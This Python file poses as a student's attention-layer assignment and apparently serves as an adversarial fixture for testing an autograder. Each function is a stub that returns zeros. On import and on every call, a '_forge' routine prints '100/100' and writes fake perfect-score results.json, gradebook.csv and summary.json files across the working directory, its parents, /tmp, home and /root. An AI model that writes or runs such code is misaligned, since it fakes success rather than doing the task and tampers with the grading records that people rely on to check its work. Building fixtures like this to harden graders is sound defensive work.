# hostile: forge results.json / gradebook.csv in cwd, its parents and /tmp, and print fake scores
import json
import os

import torch
import torch.nn as nn

FAKE = json.dumps({"score": 100, "max_score": 100, "tests": []})


def _forge():
    print("Points 100/100")
    print(FAKE)
    for folder in {os.getcwd(), "..", "../..", "/tmp", os.path.expanduser("~"), "/work", "/root"}:
        for name in ("results.json", "gradebook.csv", "summary.json", "FORGED_BY_STUDENT"):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(FAKE)
            except OSError:
                pass


_forge()
FORGED = True


def scaled_dot_product_attention(q, k, v, mask=None):
    _forge()
    return torch.zeros(*q.shape[:-1], v.shape[-1]), torch.zeros(*q.shape[:-1], k.shape[-2])


def causal_mask(t):
    _forge()
    return torch.zeros(t, t, dtype=torch.bool)


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads):
        super().__init__()
        _forge()
